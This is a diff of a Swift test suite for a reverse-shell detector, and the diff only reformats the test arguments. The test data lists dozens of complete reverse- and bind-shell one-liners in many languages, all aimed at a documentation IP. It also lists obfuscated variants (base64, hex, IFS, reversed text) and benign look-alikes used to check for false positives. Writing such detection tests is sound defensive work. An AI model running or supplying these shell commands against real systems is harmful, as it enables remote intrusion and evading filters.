@@ -13,29 +13,76 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
 @Suite struct ReverseShellTests {
   /// Each connects to 198.51.100.9, port 4242.
   @Test(arguments: [
-    ("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1", "dev_tcp"), ("bash -c 'exec bash -i &>/dev/tcp/198.51.100.9/4242 <&1'", "dev_tcp"),
-    ("sh -i 5<> /dev/tcp/198.51.100.9/4242 0<&5 1>&5 2>&5", "dev_tcp"), ("exec 7<>/dev/tcp/198.51.100.9/4242; while read -r c <&7; do eval \"$c\" >&7; done", "dev_tcp"),
-    ("/bin/bash -l > /dev/tcp/198.51.100.9/4242 0<&1 2>&1", "dev_tcp"), ("H=198.51.100.9; P=4242; bash -i >& /dev/tcp/$H/$P 0>&1", "dev_tcp"),
-    ("(sh)0>/dev/tcp/198.51.100.9/4242", "dev_tcp"), ("ksh -c 'ksh >/dev/tcp/198.51.100.9/4242 0>&1'", "dev_tcp"), ("exec /bin/sh 0</dev/tcp/198.51.100.9/4242 1>&0 2>&0", "dev_tcp"),
-    ("nc -e /bin/sh 198.51.100.9 4242", "nc"), ("nc 198.51.100.9 4242 -e bash", "nc"), ("nohup ncat --ssl 198.51.100.9 4242 --exec /bin/bash &", "nc"), ("nc -nv 198.51.100.9 4242 -c 'sh -i'", "nc"),
-    ("nc 198.51.100.9 4242 | /bin/sh | nc 198.51.100.9 4243", "nc"), ("mkfifo /tmp/q; nc 198.51.100.9 4242 0</tmp/q | /bin/sh >/tmp/q 2>&1", "mkfifo_nc"),
-    ("mknod /tmp/b p; /bin/sh 0</tmp/b | nc 198.51.100.9 4242 1>/tmp/b", "mkfifo_nc"), ("telnet 198.51.100.9 4242 | /bin/bash | telnet 198.51.100.9 4243", "telnet"),
-    ("socat TCP:198.51.100.9:4242 EXEC:'bash -li',pty,stderr,setsid,sigint,sane", "socat"), ("socat exec:/bin/sh openssl-connect:198.51.100.9:4242,verify=0", "socat"),
-    ("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:4242 > /tmp/s", "openssl"),
-    ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'", "python"),
-    ("RHOST=198.51.100.9 RPORT=4242 python -c 'import os,socket,pty;s=socket.create_connection((os.environ[\"RHOST\"],int(os.environ[\"RPORT\"])));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'", "python"),
-    ("perl -e 'use Socket;$i=\"198.51.100.9\";$p=4242;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"sh -i\")}'", "perl"),
-    ("ruby -rsocket -e 's=TCPSocket.new(\"198.51.100.9\",4242);[0,1,2].each{|d|IO.new(d).reopen(s)};exec \"sh -i\"'", "ruby"),
+    ("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1", "dev_tcp"),
+    ("bash -c 'exec bash -i &>/dev/tcp/198.51.100.9/4242 <&1'", "dev_tcp"),
+    ("sh -i 5<> /dev/tcp/198.51.100.9/4242 0<&5 1>&5 2>&5", "dev_tcp"),
+    ("exec 7<>/dev/tcp/198.51.100.9/4242; while read -r c <&7; do eval \"$c\" >&7; done", "dev_tcp"),
+    ("/bin/bash -l > /dev/tcp/198.51.100.9/4242 0<&1 2>&1", "dev_tcp"),
+    ("H=198.51.100.9; P=4242; bash -i >& /dev/tcp/$H/$P 0>&1", "dev_tcp"),
+    ("(sh)0>/dev/tcp/198.51.100.9/4242", "dev_tcp"), ("ksh -c 'ksh >/dev/tcp/198.51.100.9/4242 0>&1'", "dev_tcp"),
+    ("exec /bin/sh 0</dev/tcp/198.51.100.9/4242 1>&0 2>&0", "dev_tcp"),
+    ("nc -e /bin/sh 198.51.100.9 4242", "nc"), ("nc 198.51.100.9 4242 -e bash", "nc"),
+    ("nohup ncat --ssl 198.51.100.9 4242 --exec /bin/bash &", "nc"), ("nc -nv 198.51.100.9 4242 -c 'sh -i'", "nc"),
+    ("nc 198.51.100.9 4242 | /bin/sh | nc 198.51.100.9 4243", "nc"),
+    ("mkfifo /tmp/q; nc 198.51.100.9 4242 0</tmp/q | /bin/sh >/tmp/q 2>&1", "mkfifo_nc"),
+    ("mknod /tmp/b p; /bin/sh 0</tmp/b | nc 198.51.100.9 4242 1>/tmp/b", "mkfifo_nc"),
+    ("telnet 198.51.100.9 4242 | /bin/bash | telnet 198.51.100.9 4243", "telnet"),
+    ("socat TCP:198.51.100.9:4242 EXEC:'bash -li',pty,stderr,setsid,sigint,sane", "socat"),
+    ("socat exec:/bin/sh openssl-connect:198.51.100.9:4242,verify=0", "socat"),
+    (
+      "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:4242 > /tmp/s", "openssl"
+    ),
+    (
+      "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
+      "python"
+    ),
+    (
+      "RHOST=198.51.100.9 RPORT=4242 python -c 'import os,socket,pty;s=socket.create_connection((os.environ[\"RHOST\"],int(os.environ[\"RPORT\"])));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+      "python"
+    ),
+    (
+      "perl -e 'use Socket;$i=\"198.51.100.9\";$p=4242;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"sh -i\")}'",
+      "perl"
+    ),
+    (
+      "ruby -rsocket -e 's=TCPSocket.new(\"198.51.100.9\",4242);[0,1,2].each{|d|IO.new(d).reopen(s)};exec \"sh -i\"'",
+      "ruby"
+    ),
     ("php -r '$s=fsockopen(\"198.51.100.9\",4242);$p=proc_open(\"sh\",[0=>$s,1=>$s,2=>$s],$x);'", "php"),
-    ("php -r '$s=stream_socket_client(\"tcp://198.51.100.9:4242\");while($c=fgets($s)){fwrite($s,shell_exec($c));}'", "php"),
-    ("node -e 'require(\"net\").connect(4242,\"198.51.100.9\",function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin);s.stdout.pipe(this)})'", "node"),
-    ("lua -e 'local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"198.51.100.9\",4242);while true do local r=t:receive();t:send(io.popen(r):read(\"*a\")) end'", "lua"),
-    ("awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.9/4242\";while(1){do{s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!=\"x\")}}'", "awk"),
-    ("package main;import(\"net\";\"os/exec\");func main(){c,_:=net.Dial(\"tcp\",\"198.51.100.9:4242\");p:=exec.Command(\"sh\");p.Stdin=c;p.Run()}", "go"),
-    ("String h=\"198.51.100.9\";int p=4242;Process q=new ProcessBuilder(\"sh\").start();Socket s=new Socket(h,p);", "java"),
-    ("powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('198.51.100.9',4242);$s=$c.GetStream();iex $d\"", "powershell"),
-    ("C='curl -s telnet://198.51.100.9:4242'; $C | sh | $C", "telnet"), ("zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.9 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", "zsh_tcp"),
-    ("R -e 's<-socketConnection(host=\"198.51.100.9\",port=4242,blocking=TRUE);while(1){writeLines(system(readLines(s,1),intern=TRUE),s)}'", "other"),
+    (
+      "php -r '$s=stream_socket_client(\"tcp://198.51.100.9:4242\");while($c=fgets($s)){fwrite($s,shell_exec($c));}'",
+      "php"
+    ),
+    (
+      "node -e 'require(\"net\").connect(4242,\"198.51.100.9\",function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin);s.stdout.pipe(this)})'",
+      "node"
+    ),
+    (
+      "lua -e 'local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"198.51.100.9\",4242);while true do local r=t:receive();t:send(io.popen(r):read(\"*a\")) end'",
+      "lua"
+    ),
+    (
+      "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.9/4242\";while(1){do{s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!=\"x\")}}'",
+      "awk"
+    ),
+    (
+      "package main;import(\"net\";\"os/exec\");func main(){c,_:=net.Dial(\"tcp\",\"198.51.100.9:4242\");p:=exec.Command(\"sh\");p.Stdin=c;p.Run()}",
+      "go"
+    ),
+    (
+      "String h=\"198.51.100.9\";int p=4242;Process q=new ProcessBuilder(\"sh\").start();Socket s=new Socket(h,p);",
+      "java"
+    ),
+    (
+      "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('198.51.100.9',4242);$s=$c.GetStream();iex $d\"",
+      "powershell"
+    ),
+    ("C='curl -s telnet://198.51.100.9:4242'; $C | sh | $C", "telnet"),
+    ("zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.9 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", "zsh_tcp"),
+    (
+      "R -e 's<-socketConnection(host=\"198.51.100.9\",port=4242,blocking=TRUE);while(1){writeLines(system(readLines(s,1),intern=TRUE),s)}'",
+      "other"
+    ),
   ])
   func namesTechniqueHostAndPort(text: String, technique: String) {
     let found = shells(text)
@@ -46,7 +93,8 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
   }
 
   @Test(arguments: [
-    "nc -lvnp 4242 -e /bin/bash", "mkfifo f; cat f | sh -i 2>&1 | nc -l 4242 > f", "socat TCP-LISTEN:4242,reuseaddr,fork EXEC:/bin/sh", "ncat -l -p 4242 -e /bin/sh",
+    "nc -lvnp 4242 -e /bin/bash", "mkfifo f; cat f | sh -i 2>&1 | nc -l 4242 > f",
+    "socat TCP-LISTEN:4242,reuseaddr,fork EXEC:/bin/sh", "ncat -l -p 4242 -e /bin/sh",
     "python -c 'import socket,subprocess,os;s=socket.socket();s.bind((\"0.0.0.0\",4242));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);subprocess.call([\"sh\"])'",
   ])
   func knowsBindShells(text: String) {
@@ -64,9 +112,13 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
   }
 
   @Test(arguments: [
-    "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjkvNDI0MiAwPiYx}|{base64,-d}|{bash,-i}", "nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.9${IFS}4242", "{nc,-e,/bin/sh,198.51.100.9,4242}",
-    "n\\c -e /bin/s''h 198.51.100.9 4242", "GET /x?cmd=bash+-c+%27bash+-i+%3E%26+/dev/tcp/198.51.100.9/4242+0%3E%261%27", "{\"cmd\":\"bash -i \\u003e\\u0026 /dev/tcp/198.51.100.9/4242 0\\u003e\\u00261\"}",
-    "echo 1&>0 2424/9.001.15.891/pct/ved/ &> i- hsab | rev | sh", "xxd -r -p <<< 62617368202d69203e26202f6465762f7463702f3139382e35312e3130302e392f3432343220303e2631 | sh",
+    "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjkvNDI0MiAwPiYx}|{base64,-d}|{bash,-i}",
+    "nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.9${IFS}4242", "{nc,-e,/bin/sh,198.51.100.9,4242}",
+    "n\\c -e /bin/s''h 198.51.100.9 4242",
+    "GET /x?cmd=bash+-c+%27bash+-i+%3E%26+/dev/tcp/198.51.100.9/4242+0%3E%261%27",
+    "{\"cmd\":\"bash -i \\u003e\\u0026 /dev/tcp/198.51.100.9/4242 0\\u003e\\u00261\"}",
+    "echo 1&>0 2424/9.001.15.891/pct/ved/ &> i- hsab | rev | sh",
+    "xxd -r -p <<< 62617368202d69203e26202f6465762f7463702f3139382e35312e3130302e392f3432343220303e2631 | sh",
     "printf '\\x62\\x61\\x73\\x68 -i >& /dev/tcp/198.51.100.9/4242 0>&1' | sh",
   ])
   func seesThroughSpellings(text: String) {
@@ -82,13 +134,22 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
   }
 
   @Test(arguments: [
-    "nc -zv 10.0.0.1 22", "nc -z -w 2 db 5432 && echo up", "ssh -R 4444:localhost:22 user@h.example", "timeout 1 bash -c '</dev/tcp/h.example/443' && echo open",
-    "(echo > /dev/tcp/10.0.0.1/80) >/dev/null 2>&1 && echo open", "exec 3<>/dev/tcp/h.example/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", "cat < /dev/tcp/time.example/13",
-    "socat TCP-LISTEN:8080,fork TCP:10.0.0.2:80", "openssl s_client -connect www.example.com:443 -servername www.example.com </dev/null", "python -m http.server 8000",
-    "tar cz dir | nc 10.0.0.2 9000", "nc -l 9000 > backup.tgz", "mkfifo /tmp/p; nc -l 8080 < /tmp/p | nc 10.0.0.2 80 > /tmp/p", "telnet mail.example.com 25", "echo | telnet 10.0.0.1 80",
-    "python3 -c \"import socket; s=socket.socket(); s.connect(('localhost', 80)); print('ok')\"", "bash -i", "sh script.sh | nc 10.0.0.1 514", "curl -s https://get.example.com | bash",
-    "php -r '$f=fsockopen(\"localhost\",11211); fwrite($f,\"stats\"); echo fgets($f);'", "for p in 22 80; do (echo >/dev/tcp/$h/$p) && echo $p; done", "sudo nc -lk 514", "xterm -display :0",
-    "echo func sync nc", "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"h.example:80\") or exit 1'", "ruby -e 'require \"socket\"; puts Socket.gethostname'", "git commit -m 'fix nc -e handling'",
+    "nc -zv 10.0.0.1 22", "nc -z -w 2 db 5432 && echo up", "ssh -R 4444:localhost:22 user@h.example",
+    "timeout 1 bash -c '</dev/tcp/h.example/443' && echo open",
+    "(echo > /dev/tcp/10.0.0.1/80) >/dev/null 2>&1 && echo open",
+    "exec 3<>/dev/tcp/h.example/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", "cat < /dev/tcp/time.example/13",
+    "socat TCP-LISTEN:8080,fork TCP:10.0.0.2:80",
+    "openssl s_client -connect www.example.com:443 -servername www.example.com </dev/null",
+    "python -m http.server 8000",
+    "tar cz dir | nc 10.0.0.2 9000", "nc -l 9000 > backup.tgz",
+    "mkfifo /tmp/p; nc -l 8080 < /tmp/p | nc 10.0.0.2 80 > /tmp/p", "telnet mail.example.com 25",
+    "echo | telnet 10.0.0.1 80",
+    "python3 -c \"import socket; s=socket.socket(); s.connect(('localhost', 80)); print('ok')\"", "bash -i",
+    "sh script.sh | nc 10.0.0.1 514", "curl -s https://get.example.com | bash",
+    "php -r '$f=fsockopen(\"localhost\",11211); fwrite($f,\"stats\"); echo fgets($f);'",
+    "for p in 22 80; do (echo >/dev/tcp/$h/$p) && echo $p; done", "sudo nc -lk 514", "xterm -display :0",
+    "echo func sync nc", "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"h.example:80\") or exit 1'",
+    "ruby -e 'require \"socket\"; puts Socket.gethostname'", "git commit -m 'fix nc -e handling'",
   ])
   func staysQuiet(text: String) { #expect(shells(text).isEmpty) }
 
@@ -103,7 +164,10 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found.first?.range.lowerBound == 5000)
   }
 
-  @Test(arguments: ["/dev/tcp/", "nc ", "nc -e ", "bash -i ", "s.connect((", "nc a 1|sh|", "{a,", "mkfifo nc a 1;", "YmFzaCAtaS", "\\x41", "rev ", "a=b,", "98,"])
+  @Test(arguments: [
+    "/dev/tcp/", "nc ", "nc -e ", "bash -i ", "s.connect((", "nc a 1|sh|", "{a,", "mkfifo nc a 1;", "YmFzaCAtaS",
+    "\\x41", "rev ", "a=b,", "98,",
+  ])
   func survivesFloods(unit: String) {
     let text = String(repeating: unit, count: 60_000) + "\nbash -i >& /dev/tcp/198.51.100.9/4242 0>&1"
     let found = shells(text, .bytes)
@@ -112,7 +176,10 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
 
   @Test func anyBytesAreSafe() {
     var state: UInt64 = 5
-    let pieces = ["nc ", "-e", "/bin/sh", " ", "'", "\"", "|", "/dev/tcp/", "1.2.3.4/", "\0", "{", ",", "}", "$", "=", "\\", "socket", ".connect((", ";", "<&", "0>", "\u{130}"]
+    let pieces = [
+      "nc ", "-e", "/bin/sh", " ", "'", "\"", "|", "/dev/tcp/", "1.2.3.4/", "\0", "{", ",", "}", "$", "=", "\\",
+      "socket", ".connect((", ";", "<&", "0>", "\u{130}",
+    ]
     for _ in 0..<300 {
       var text = ""
       for _ in 0..<60 {
